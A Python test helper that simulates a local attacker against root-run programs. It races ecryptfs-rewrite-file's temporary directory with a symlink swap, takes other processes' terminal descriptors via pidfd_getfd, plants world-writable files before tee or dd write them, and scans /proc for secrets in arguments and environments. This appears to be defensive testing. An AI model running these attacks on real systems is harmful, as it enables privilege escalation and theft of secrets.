"""What a local user does to programs of root's: attacker.py ATTACK ARGUMENT... ; `run` is the program that calls it."""
import ctypes
import os
import pty
import select
import sys
import time

libc = ctypes.CDLL(None, use_errno=True)
PIDFD_GETFD, PIDFD_OPEN = 438, 434


def report(path, text):
    """For the test; in one step, as it reads it at any time."""
    with open(path + ".new", "w") as out:
        out.write(text)
    os.rename(path + ".new", path)


def swap_workspace(directory, target, report_file):
    """Exchanges the temporary directory that ecryptfs-rewrite-file makes for one with a link called copy."""
    report(report_file, "ready")
    swaps = 0
    while True:
        for name in os.listdir(directory):
            path = os.path.join(directory, name)
            if not name.startswith(".rewrite."):
                continue
            try:
                if os.stat(path).st_uid == os.getuid():
                    continue
                os.rename(path, directory + "/aside%d" % swaps)
                os.mkdir(path, 0o777)
                os.symlink(target, path + "/copy")
                swaps += 1
            except OSError:
                pass


def take_terminal(report_file):
    """Takes every descriptor of this user's other processes that is a terminal."""
    report(report_file, "ready")
    while True:
        for pid in filter(str.isdigit, os.listdir("/proc")):
            try:
                if int(pid) == os.getpid() or os.stat("/proc/" + pid).st_uid != os.getuid():
                    continue
                holder = libc.syscall(PIDFD_OPEN, int(pid), 0)
                for number in range(0, 16):
                    descriptor = libc.syscall(PIDFD_GETFD, holder, number, 0)
                    if descriptor < 0:
                        continue
                    if os.isatty(descriptor):
                        report(report_file, "terminal of process %s taken: %s" % (pid, os.ttyname(descriptor)))
                    os.close(descriptor)
                os.close(holder)
            except OSError:
                pass


def plant(path, report_file):
    """Creates the file, writable for all, when a program that writes it starts; reports what is written."""
    report(report_file, "ready")
    held, old = None, set()
    while held is None:
        for pid in set(filter(str.isdigit, os.listdir("/proc"))) - old:
            try:
                with open("/proc/%s/cmdline" % pid, "rb") as content:
                    words = content.read().split(b"\0")
            except OSError:
                continue
            if held is None and (b"tee" in words or b"dd" in words) and any(path.encode() in word for word in words):
                try:
                    held = os.open(path, os.O_CREAT | os.O_EXCL | os.O_RDWR, 0o666)
                    os.fchmod(held, 0o666)
                except OSError:
                    old.add(pid)
    while os.fstat(held).st_size == 0:
        pass
    report(report_file, "was written to: %s" % os.pread(held, 100, 0).decode("latin-1"))
    select.select([], [], [])


def see_arguments(word, seconds, report_file):
    """Counts the processes whose arguments or environment contain the word, as root, who can read all of them."""
    seen = set()
    end = time.monotonic() + float(seconds)
    while time.monotonic() < end:
        for pid in filter(str.isdigit, os.listdir("/proc")):
            if int(pid) == os.getpid() or int(pid) == os.getppid():
                continue
            for file in ("cmdline", "environ"):
                try:
                    with open("/proc/%s/%s" % (pid, file), "rb") as content:
                        text = content.read()
                        if word.encode() in text and b"see_arguments" not in text:
                            seen.add((pid, file))
                except OSError:
                    pass
    report(report_file, " ".join("%s/%s" % one for one in sorted(seen)))


def terminal(report_file, answers, *command):
    """Runs a command on a terminal of its own; each prompt, which ends in a colon and a blank, is answered by a line of the
    answers. The report is all that the terminal showed."""
    pid, master = pty.fork()
    if pid == 0:
        os.execvp(command[0], command)
    shown, left, answered = b"", answers.split("\n") if answers else [], 0
    end = time.monotonic() + 120
    while time.monotonic() < end:
        ready, _, _ = select.select([master], [], [], 1)
        if not ready:
            continue
        try:
            text = os.read(master, 4096)
        except OSError:
            break
        if not text:
            break
        shown += text
        if left and shown[answered:].rstrip(b"\r\n").endswith(b": "):
            answered = len(shown)
            os.write(master, left.pop(0).encode() + b"\n")
    with open(report_file, "wb") as out:
        out.write(shown)
    _, status = os.waitpid(pid, 0)
    sys.exit(os.waitstatus_to_exitcode(status))


if __name__ == "__main__":
    globals()[sys.argv[1]](*sys.argv[2:])
